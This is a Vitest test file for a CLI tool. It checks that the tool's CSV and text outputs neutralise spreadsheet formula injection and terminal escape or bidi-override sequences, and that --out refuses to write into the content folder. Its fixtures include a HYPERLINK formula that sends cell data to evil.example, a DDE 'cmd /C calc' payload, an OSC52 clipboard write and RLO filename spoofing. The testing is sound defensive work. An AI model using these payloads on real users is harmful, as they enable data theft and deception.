import { mkdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../quotes/support.js';
import { runLwr } from '../support/cli.js';
import { contentCopy, sectionFile, snapshotTree, tempDir } from './support.js';

// Outputs that other programs open: spreadsheets run formulas in CSV cells, terminals obey
// escape sequences in text files, and `--out` could overwrite the content it was made from.

let work: string;
beforeAll(() => {
  work = tempDir('lwr-outputs-');
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('CSV cells that a spreadsheet would run as formulas', () => {
  let dir: string;
  beforeAll(() => {
    dir = path.join(work, 'formulas');
    contentCopy(dir, {
      '03-formulas.md': sectionFile(
        'formulas',
        [
          '> =HYPERLINK("https://evil.example/?"&A1,"Click for details")',
          '>',
          '> — @SUM(1+1)*cmd|\' /C calc\'!A0, -2+3, +Leeds',
          '',
          '> A quote that is fine.',
          '>',
          '> — Sam Example, Editor, Leeds',
        ].join('\n'),
      ),
    });
  });

  it('begin with a single quote: =, +, - and @ cells are text in every spreadsheet (OWASP)', () => {
    const run = runLwr(['quotes', '--format', 'csv', '--section', 'formulas', '--content', 'content'], { cwd: dir });
    expect(run.status, run.stderr).toBe(0);
    const [header, first, second] = parseCsv(run.stdout);
    const cell = (row: string[] | undefined, name: string) => row![header!.indexOf(name)];
    expect(cell(first, 'text')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click for details")`);
    expect(cell(first, 'attribution')!.startsWith("'@SUM(1+1)")).toBe(true);
    expect(cell(first, 'person')!.startsWith("'@SUM")).toBe(true);
    expect(cell(first, 'role')).toBe("'-2+3");
    expect(cell(first, 'place')).toBe("'+Leeds");
    expect(cell(second, 'text')).toBe('A quote that is fine.');
    // No cell of any row starts with a formula character.
    for (const row of parseCsv(run.stdout)) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('--no-escape-formulas writes the cells as they are, for programs that read CSV as data', () => {
    const run = runLwr(['quotes', '--format', 'csv', '--no-escape-formulas', '--section', 'formulas', '--content', 'content'], { cwd: dir });
    const [header, first] = parseCsv(run.stdout);
    expect(first![header!.indexOf('text')]).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click for details")');
  });
});

describe('terminal escape sequences and bidi overrides in text outputs', () => {
  const ESC = '\u001b';
  const OSC52 = `${ESC}]52;c;ZWNobyBwd25lZA==\u0007`; // writes the clipboard
  const CLEAR = `${ESC}[2J`;
  const CSI8 = '\u009b';
  const RLO = '\u202e';
  /** Controls that must never reach a text output: C0 but tab and newline, DEL, C1, bidi embeddings, overrides and isolates. */
  const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
  let dir: string;

  beforeAll(() => {
    dir = path.join(work, 'escapes');
    contentCopy(dir, {
      '03-escapes.md': sectionFile(
        'escapes',
        [
          `A paragraph ${CLEAR}with a clear, ${OSC52} a clipboard write and ${RLO}txt.exe a bidi override.`,
          '',
          `\`\`\`\ncode ${CSI8}6n ${ESC}[31m red\n\`\`\``,
          '',
          `> “Quoted ${OSC52} and ${RLO}cod.exe ${CSI8}6n”`,
          '>',
          `> — Name ${ESC}[31mRed, Role, Place`,
        ].join('\n'),
        '"Escapes \\e[2Jtitle"',
      ),
    });
  });

  const raw = (text: string) => [...text].filter((ch) => RAW.test(ch)).map((ch) => `U+${ch.codePointAt(0)!.toString(16).padStart(4, '0')}`);

  it('the text edition has none raw: controls are dropped, bidi overrides shown as <U+202E>', () => {
    const run = runLwr(['build', '--format', 'text', '--out', 'dist', '--content', 'content'], { cwd: dir });
    expect(run.status, run.stderr).toBe(0);
    const text = readFileSync(path.join(dir, 'dist/text/hardening-fixture.txt'), 'utf8');
    expect(raw(text)).toEqual([]);
    expect(text).toContain('<U+202E>txt.exe');
    expect(text).toContain('with a clear,');
    expect(text).toContain('Escapes [2Jtitle');
  });

  for (const format of ['text', 'csv', 'markdown']) {
    it(`lwr quotes --format ${format} (piped) has none raw`, () => {
      const run = runLwr(['quotes', '--format', format, '--section', 'escapes', '--content', 'content'], { cwd: dir });
      expect(run.status, run.stderr).toBe(0);
      expect(raw(run.stdout.replace(/\r\n/g, '\n'))).toEqual([]);
      expect(run.stdout).toContain('<U+202E>cod.exe');
    });
  }

  it('lwr quotes --format json keeps the text exactly, every control escaped (\\u001b, \\u009b), nothing raw', () => {
    const run = runLwr(['quotes', '--format', 'json', '--section', 'escapes', '--content', 'content'], { cwd: dir });
    expect(raw(run.stdout.replace(new RegExp(RLO, 'g'), ''))).toEqual([]);
    const [quote] = JSON.parse(run.stdout) as { text: string }[];
    expect(quote!.text).toBe(`“Quoted ${OSC52} and ${RLO}cod.exe ${CSI8}6n”`);
    expect(run.stdout).toContain('\\u009b6n');
  });
});

describe('lwr quotes --out never writes into the content folder', () => {
  it('refuses a content file, directly or through a link, and leaves the content as it was', () => {
    const dir = path.join(work, 'quotes-out');
    const content = contentCopy(dir);
    symlinkSync('content', path.join(dir, 'alias'));
    mkdirSync(path.join(dir, 'exports'));
    const before = snapshotTree(content);
    for (const out of ['content/01-intro.md', 'content/new.csv', 'alias/01-intro.md', path.join(content, 'quotes.json')]) {
      const run = runLwr(['quotes', '--format', 'csv', '--out', out, '--content', 'content'], { cwd: dir });
      expect(run.status, out).toBe(2);
      expect(run.stderr).toMatch(/refusing to write .* inside the content folder/);
    }
    expect(snapshotTree(content)).toEqual(before);
    const ok = runLwr(['quotes', '--format', 'csv', '--out', 'exports/quotes.csv', '--content', 'content'], { cwd: dir });
    expect(ok.status, ok.stderr).toBe(0);
    expect(readFileSync(path.join(dir, 'exports/quotes.csv'), 'utf8')).toMatch(/^id,kind,text/);
  });

  it('lwr model --out is held to the same rule', () => {
    const dir = path.join(work, 'model-out');
    const content = contentCopy(dir);
    const before = snapshotTree(content);
    const run = runLwr(['model', '--out', 'content/02-learning.md', '--content', 'content'], { cwd: dir });
    expect(run.status).toBe(2);
    expect(snapshotTree(content)).toEqual(before);
  });

  it('lwr check --external --cache is held to the same rule, before any request', () => {
    const dir = path.join(work, 'cache-out');
    const content = contentCopy(dir);
    const before = snapshotTree(content);
    const run = runLwr(['check', '--external', '--cache', 'content/01-intro.md', '--format', 'json', '--content', 'content'], { cwd: dir });
    expect(run.status).toBe(2);
    const result = JSON.parse(run.stdout) as { diagnostics: { ruleId: string; message: string }[] };
    expect(result.diagnostics.map((d) => d.ruleId)).toEqual(['check-usage']);
    expect(result.diagnostics[0]!.message).toMatch(/link cache cannot be written: .* inside the content folder/);
    expect(snapshotTree(content)).toEqual(before);
  });
});
